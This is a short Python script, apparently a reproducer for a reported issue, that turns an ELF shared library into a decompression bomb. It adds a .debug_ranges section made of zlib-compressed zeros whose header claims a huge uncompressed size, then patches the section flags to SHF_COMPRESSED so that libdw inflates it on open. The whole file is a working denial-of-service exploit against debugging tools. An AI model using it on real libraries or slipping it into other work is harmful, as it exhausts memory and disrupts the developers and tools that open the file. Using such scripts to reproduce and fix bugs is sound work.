#!/usr/bin/env python3
"""Turns a shared library into a debug-section bomb (issue 42): adds a
.debug_ranges section, marks it SHF_COMPRESSED, whose header says it
inflates to SIZE bytes (a zlib stream of SIZE zeros: ~1/1000 of SIZE).
libdw inflates every compressed .debug_* section when it opens a file's
DWARF.  Usage: debug-bomb.py LIB SIZE"""
import os
import struct
import subprocess
import sys
import tempfile
import zlib

lib, size = sys.argv[1], int(sys.argv[2])
z = zlib.compressobj(9)
zero = bytes(1 << 20)
parts = [struct.pack('<IIQQ', 1, 0, size, 1)]  # Elf64_Chdr: ELFCOMPRESS_ZLIB
for _ in range(size >> 20):
    parts.append(z.compress(zero))
parts.append(z.flush())
with tempfile.NamedTemporaryFile(dir=os.path.dirname(lib) or '.') as blob:
    blob.write(b''.join(parts))
    blob.flush()
    subprocess.run(['objcopy', '--add-section', '.debug_ranges=' + blob.name, lib], check=True)

# the section's flags: SHF_COMPRESSED (objcopy has no flag for it)
with open(lib, 'r+b') as f:
    elf = f.read()
    shoff, = struct.unpack_from('<Q', elf, 0x28)
    shentsize, shnum, shstrndx = struct.unpack_from('<HHH', elf, 0x3a)
    stroff, = struct.unpack_from('<Q', elf, shoff + shstrndx * shentsize + 0x18)
    for i in range(shnum):
        sh = shoff + i * shentsize
        name, = struct.unpack_from('<I', elf, sh)
        if elf[stroff + name:stroff + name + 14] == b'.debug_ranges\0':
            flags, = struct.unpack_from('<Q', elf, sh + 8)
            f.seek(sh + 8)
            f.write(struct.pack('<Q', flags | 0x800))
            break
    else:
        sys.exit('no .debug_ranges section in ' + lib)
